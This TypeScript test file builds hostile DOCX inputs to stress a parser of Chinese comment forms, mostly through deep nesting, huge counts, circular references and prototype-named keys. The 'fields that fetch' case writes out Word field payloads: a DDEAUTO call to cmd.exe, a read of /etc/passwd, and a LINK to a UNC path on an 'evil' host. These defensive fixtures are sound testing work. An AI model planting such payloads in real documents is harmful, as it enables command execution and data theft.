import { cell, type DocxParts, docxFile, field, p, r, styleXml, table } from '#tests/builders/docx-file.ts';
import { formDocx, paragraphXml } from '#tests/builders/form-docx.ts';
import { noted, notedDocx } from '#tests/builders/word-notes.ts';
import { casesOf } from '../hostile-case.ts';
import { HEAD } from './good-form.ts';

const file = (body: string, more: Omit<DocxParts, 'body'> = {}) => docxFile({ body, ...more });
const times = (count: number, make: (i: number) => string) => Array.from({ length: count }, (_, i) => make(i)).join('');
const nestedTables = (depth: number) =>
  '<w:tbl><w:tr><w:tc>'.repeat(depth) + p('x') + '</w:tc></w:tr></w:tbl>'.repeat(depth);
const by = (id: number) => `w:id="${id}" w:author="张三" w:date="2026-05-04T10:12:00Z"`;
const row = (cells: readonly string[]) => cells.map((text) => cell(text));
const form = (rows: readonly (readonly string[])[]) => formDocx([[HEAD, ...rows]]);
const hex = (i: number) => (i + 1).toString(16).padStart(8, '0');
const circle = (count: number) =>
  notedDocx({
    body: times(count, (i) => p([noted(i, r('文字'))])),
    comments: Array.from({ length: count }, (_, i) => ({
      id: i,
      text: `意见${i}`,
      paraId: hex(i),
      parent: hex((i + 1) % count),
    })),
  });

export const docxCases = casesOf('docx', {
  'a million runs': () => file(p([times(500_000, () => '<w:r><w:t>字</w:t></w:r>')])),
  'a million empty paragraphs': () => file('<w:p/>'.repeat(1_000_000)),
  'tables nested 1,000 deep': () => file(nestedTables(1_000)),
  'tables nested 80 deep': () => file(nestedTables(80)),
  'many tables nested 60 deep (large)': () => file(times(200, () => nestedTables(60))),
  'tables that branch (large)': () => {
    const grow = (depth: number): string =>
      depth === 0 ? p('x') : table([[cell([grow(depth - 1)]), cell([grow(depth - 1)])]], 2);
    return file(grow(12));
  },
  'content controls nested': () =>
    file('<w:sdt><w:sdtContent>'.repeat(120) + p('x') + '</w:sdtContent></w:sdt>'.repeat(120)),
  'text boxes nested': () =>
    file(p(['<w:r><w:pict><w:txbxContent><w:p>'.repeat(50) + '</w:p></w:txbxContent></w:pict></w:r>'.repeat(50)])),
  'replies in a circle of two': () => circle(2),
  'replies in a circle of 5,000 (large)': () => circle(5_000),
  'a reply to itself': () => circle(1),
  'chain of 5,000 replies (large)': () =>
    notedDocx({
      body: p([noted(0, r('文字'))]),
      comments: Array.from({ length: 5_000 }, (_, i) => ({
        id: i,
        text: `答${i}`,
        paraId: hex(i),
        ...(i > 0 ? { parent: hex(i - 1) } : {}),
      })),
    }),
  '20,000 comments on one word (large)': () =>
    notedDocx({
      body: p([
        times(20_000, (i) => `<w:commentRangeStart w:id="${i}"/>`),
        r('字'),
        times(20_000, (i) => `<w:commentRangeEnd w:id="${i}"/>`),
      ]),
      comments: Array.from({ length: 20_000 }, (_, i) => ({ id: i, text: '同' })),
    }),
  '3,000 comments over the whole text (large)': () =>
    notedDocx({
      body:
        p([times(3_000, (i) => `<w:commentRangeStart w:id="${i}"/>`)]) +
        times(3_000, () => p('条文内容若干字。')) +
        p([times(3_000, (i) => `<w:commentRangeEnd w:id="${i}"/>`)]),
      comments: Array.from({ length: 3_000 }, (_, i) => ({ id: i, text: '全文' })),
    }),
  'comments with the same id': () =>
    notedDocx({ body: p([noted(1, r('字'))]), comments: Array.from({ length: 100 }, () => ({ id: 1, text: '同' })) }),
  'comment that holds a comment range': () =>
    notedDocx({ body: p([noted(1, r('字'))]), comments: [{ id: 1, text: '', xml: p([noted(1, r('自己'))]) }] }),
  'comment of five megabytes': () =>
    notedDocx({ body: p([noted(1, r('字'))]), comments: [{ id: 1, text: '长'.repeat(1_700_000) }] }),
  'ranges crossed and never closed (large)': () =>
    notedDocx({
      body: times(2_000, (i) => p([`<w:commentRangeStart w:id="${i}"/>`, r('字')])),
      comments: Array.from({ length: 2_000 }, (_, i) => ({ id: i, text: '意见' })),
    }),
  '100,000 tracked changes (large)': () =>
    file(p([times(100_000, (i) => `<w:ins ${by(i)}><w:r><w:t>字</w:t></w:r></w:ins><w:r><w:t>文</w:t></w:r>`)])),
  'changes nested 100 deep': () =>
    file(
      p([
        times(100, (i) => `<w:${i % 2 ? 'ins' : 'del'} ${by(i)}>`) +
          r('字') +
          Array.from({ length: 100 }, (_, i) => `</w:${(99 - i) % 2 ? 'ins' : 'del'}>`).join(''),
      ]),
    ),
  'moves without an end (large)': () =>
    file(
      times(5_000, (i) =>
        p([`<w:moveFromRangeStart w:id="${i}" w:name="m"/><w:moveFrom ${by(i)}>${r('字')}</w:moveFrom>`]),
      ),
    ),
  'change with 5,000 authors (large)': () =>
    file(p([times(5_000, (i) => `<w:del w:id="${i}" w:author="${i}"><w:r><w:delText>字</w:delText></w:r></w:del>`)])),
  'numbering that counts itself (large)': () =>
    file(
      times(2_000, () => p('条', { num: [1, 0] })),
      {
        numbering:
          '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="L"/></w:abstractNum><w:abstractNum w:abstractNumId="1"><w:styleLink w:val="L"/><w:numStyleLink w:val="L"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
        styles:
          '<w:style w:type="numbering" w:styleId="L"><w:name w:val="L"/><w:basedOn w:val="L"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>',
      },
    ),
  'numbering with huge values': () =>
    file(
      times(50, () => p('条', { num: [1, 8] })),
      {
        numbering:
          '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="8"><w:start w:val="2147483647"/><w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1%2%3%4%5%6%7%8%9"/></w:lvl><w:lvl w:ilvl="0"><w:start w:val="999999999"/><w:numFmt w:val="lowerLetter"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
      },
    ),
  'styles based on themselves': () =>
    file(p('条', { style: 'A' }), {
      styles: styleXml('A', 'heading 1', '', 'B') + styleXml('B', 'b', '', 'A') + styleXml('C', 'c', '', 'C'),
    }),
  'chain of 20,000 styles': () =>
    file(
      times(500, () => p('条', { style: 'S19999' })),
      { styles: times(20_000, (i) => styleXml(`S${i}`, `s${i}`, '', i > 0 ? `S${i - 1}` : '')) },
    ),
  'styles named like the prototype': () =>
    file(p('条', { style: '__proto__' }) + p('条', { style: 'constructor' }), {
      styles: styleXml('__proto__', '__proto__') + styleXml('constructor', 'heading 1', '', '__proto__'),
    }),
  'fields nested 5,000 deep (large)': () =>
    file(
      p([
        times(5_000, () => '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE </w:instrText></w:r>'),
      ]),
    ),
  'fields that fetch': () =>
    file(
      [
        'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
        'INCLUDETEXT "file:///etc/passwd"',
        'INCLUDEPICTURE "http://127.0.0.1:9/x.png"',
        'LINK Excel.Sheet "\\\\\\\\evil\\\\x"',
        'IMPORT "x"',
      ]
        .map((code) => p([field(code, '结果')]))
        .join(''),
    ),
  'field code in 10,000 pieces (large)': () =>
    file(
      p([
        `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${times(10_000, () => '<w:r><w:instrText>D</w:instrText></w:r>')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
      ]),
    ),
  'footnotes that cite themselves and each other': () => {
    const mark = (id: number) => `<w:r><w:footnoteReference w:id="${id}"/></w:r>`;
    return file(p([r('正文'), mark(2)]), {
      footnotes: { '2': p([mark(2), mark(3), r('注')]), '3': p([mark(2), mark(2)]) },
    });
  },
  'number pattern of 100,000 letters (large)': () =>
    file(
      times(3_000, () => p('条', { num: [1, 0] })),
      {
        numbering: `<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:lvlText w:val="${'%1'.repeat(50_000)}"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>`,
      },
    ),
  'embedded style map': () => file(p('条'), { parts: { '../mammoth/style-map': 'p => script:fresh' } }),
  'grid span of two thousand million': () =>
    formDocx([
      {
        xml: `<w:tbl><w:tr>${row(HEAD).join('')}</w:tr><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>${paragraphXml('x')}</w:tc></w:tr></w:tbl>`,
      },
    ]),
  'cells before of two thousand million': () =>
    formDocx([
      {
        xml: `<w:tbl><w:tr>${row(HEAD).join('')}</w:tr><w:tr><w:trPr><w:gridBefore w:val="2147483647"/></w:trPr>${row(HEAD).join('')}</w:tr></w:tbl>`,
      },
    ]),
  'merged downwards for ever': () =>
    formDocx([
      {
        xml: `<w:tbl><w:tr>${row(HEAD).join('')}</w:tr>${times(5_000, () => `<w:tr>${times(5, () => '<w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc>')}</w:tr>`)}</w:tbl>`,
      },
    ]),
  '30,000 rows (large)': () =>
    form(Array.from({ length: 30_000 }, (_, i) => [String(i), '5.1', '原文', '意见', '理由'])),
  '2,000 columns': () =>
    formDocx([[Array.from({ length: 2_000 }, () => '修改意见'), Array.from({ length: 2_000 }, () => 'x')]]),
  'cell of four megabytes': () => form([['1', '5.1', '原文', '意'.repeat(1_300_000), '理由']]),
  'cell of 20,000 paragraphs': () => form([['1', '5.1', '原文', '1. 意见\n'.repeat(20_000), '理由']]),
  'clause numbers of 100,000 digits': () =>
    form([['1'.repeat(100_000), '5.'.repeat(50_000), '9'.repeat(100_000), '意见', '理由']]),
  'cell made to pump patterns': () =>
    form([
      ['1', `${'5.1、'.repeat(20_000)}!`, '（'.repeat(50_000), `${' '.repeat(50_000)}x`, '一二三'.repeat(20_000)],
      ['2', 'A'.repeat(50_000), '第'.repeat(50_000), '、，；'.repeat(20_000), '1)'.repeat(30_000)],
    ]),
  '2,000 headings of columns in turn (large)': () =>
    formDocx(Array.from({ length: 2_000 }, () => [HEAD, ['1', '5', 'a', 'b', 'c']])),
  'paragraphs made to pump patterns': () =>
    formDocx([
      `单位：${' '.repeat(100_000)}x`,
      `标准名称${'：'.repeat(100_000)}`,
      `${'年月日'.repeat(30_000)}`,
      `${'　'.repeat(100_000)}无意见`,
      '□'.repeat(100_000),
      `${'没有意见'.repeat(20_000)}但`,
    ]),
  'headings named like the prototype': () =>
    formDocx([
      [
        ['__proto__', 'constructor', '修改意见', 'toString', '章条编号'],
        ['a', 'b', '意见', 'd', '5.1'],
      ],
    ]),
  'organisation named like the prototype': () =>
    formDocx(['单位：__proto__', [HEAD, ['1', '5.1', '__proto__', 'constructor', 'hasOwnProperty']]]),
  'organisation turned round': () =>
    formDocx([
      '单位：\u202e所究研叶茶\u2066',
      [HEAD, ['1', '5.1', '\u200b\u00ad\ufeff', '\u{e0041}意见\u202e', '\u2028\u2029']],
    ]),
  'organisation of 5,000 letters': () =>
    formDocx([`单位：${'究'.repeat(5_000)}研究所`, [HEAD, ['1', '5.1', '原文', '意见', '理由']]]),
  'alternatives nested': () =>
    file(
      p([
        `<w:r>${'<mc:AlternateContent><mc:Choice><w:drawing>'.repeat(40)}${'</w:drawing></mc:Choice></mc:AlternateContent>'.repeat(40)}</w:r>`,
      ]),
    ),
  'bookmarks of ours made up (large)': () =>
    file(
      times(5_000, (i) => `<w:bookmarkStart w:id="${i}" w:name="zs_${i % 7}"/>${p('条')}<w:bookmarkEnd w:id="${i}"/>`) +
        p([noted(1, r('字'))]),
    ),
});
